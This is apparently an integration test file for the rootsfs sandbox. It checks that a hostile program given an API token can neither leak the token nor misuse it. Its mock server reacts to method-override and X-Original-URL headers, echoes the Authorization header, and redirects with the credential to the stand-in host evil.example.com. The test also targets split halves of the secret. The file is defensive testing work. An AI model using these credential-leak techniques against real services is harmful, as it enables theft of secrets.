package sandbox

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rootsfs/rootsfs/integration/testkit"
)

// secretTargets has the fields that the hostile program reads.
type secretTargets struct {
	Base, Host, Port, Evil, File string
	Halves                       [2]string
}

// everythingAPI does everything that a request with the credential asks for, and reveals the
// credential on request. It obeys two headers that only some servers obey.
func everythingAPI(w http.ResponseWriter, r *http.Request) {
	method, path := r.Method, r.URL.Path
	for name, values := range r.Header {
		switch strings.ReplaceAll(strings.ToLower(name), "_", "-") {
		case "x-http-method-override":
			method = values[0]
		case "x-original-url":
			path = values[0]
		}
	}
	switch host, _, _ := strings.Cut(r.Host, ":"); {
	case method != http.MethodGet, path != "/hello", r.URL.Query().Has("access_token"), host != "api.example.com":
		fmt.Fprintln(w, "owned")
	case r.URL.RawQuery == "echo":
		w.Header().Set("X-You-Said", r.Header.Get("Authorization"))
		fmt.Fprintln(w, "hello")
	case r.URL.RawQuery == "told":
		redirect(w, "https://evil.example.com/?key="+credential)
	case r.URL.RawQuery == "away":
		redirect(w, "https://"+strings.Replace(r.Host, "api", "evil", 1)+"/admin")
	default:
		fmt.Fprintln(w, "hello")
	}
}

// redirect redirects without a body. http.Redirect would repeat the URL in a body, and rootsfs does
// not search bodies.
func redirect(w http.ResponseWriter, to string) {
	w.Header().Set("Location", to)
	w.WriteHeader(http.StatusFound)
}

// A hostile program that uses a secret neither gets the secret nor can use it beyond the rules,
// at every level that has a network, as root and as a user.
func TestSecretAttacks(t *testing.T) {
	a := serveAPI(t, http.HandlerFunc(everythingAPI))
	eachUser(t, func(t *testing.T, o *outside) {
		file := filepath.Join(o.base, "xdg_config_home", "token")
		testkit.Must(t, os.WriteFile(file, []byte(credential+"\n"), 0o600))
		o.own(file)
		o.writeConfig(fmt.Sprintf("[[secret]]\nname = \"API_TOKEN\"\nurl = \"https://api.example.com:%s\"\nallow = [\"GET /hello\"]\nfile = %q\n", a.port, file))
		half := len(credential) / 2
		raw, err := json.Marshal(secretTargets{
			Base: "api-token.secret.internal", Host: "api.example.com", Port: a.port, Evil: "evil.example.com", File: file,
			Halves: [2]string{credential[:half], credential[half:]},
		})
		testkit.Must(t, err)
		names, table := []string{}, map[string]map[string]result{}
		for _, level := range netLevels {
			ord := o.networkOrder(level, "--net=127.0.0.5:"+a.port, "./hostile -secret '"+string(raw)+"'")
			ord.Args = slices.Insert(ord.Args, len(ord.Args)-4, "--secret", "API_TOKEN") // before --
			ord.Env = append(slices.Clone(o.env), "SSL_CERT_FILE="+a.certificate)
			stdout, log, code := o.run(ord)
			names = names[:0]
			results := map[string]result{}
			for lines := bufio.NewScanner(strings.NewReader(stdout)); lines.Scan(); {
				var res result
				testkit.Must(t, json.Unmarshal(lines.Bytes(), &res))
				switch results[res.Name] = res; {
				case res.Name == "" && res.Detail != "it is left out": // this text stands for status 200
					t.Errorf("%s: the allowed request fails: %s", level, res.Detail)
				case res.Name != "" && res.Worked:
					t.Errorf("%s: %q works", level, res.Name)
				}
				if res.Name != "" {
					names = append(names, res.Name)
				}
			}
			if len(names) < 20 || code != 0 {
				t.Fatalf("%s: exit code %d, %d attempts were made\n%s%s", level, code, len(names), stdout, log)
			}
			table[level.String()] = results
		}
		rows := strings.Replace(attacksTable(names, table), "--net=HOSTS", "--secret", 1)
		t.Log("\n" + rows)
		if o.caller.uid == 0 {
			compareRows(t, "security", rows)
		}
	})
}
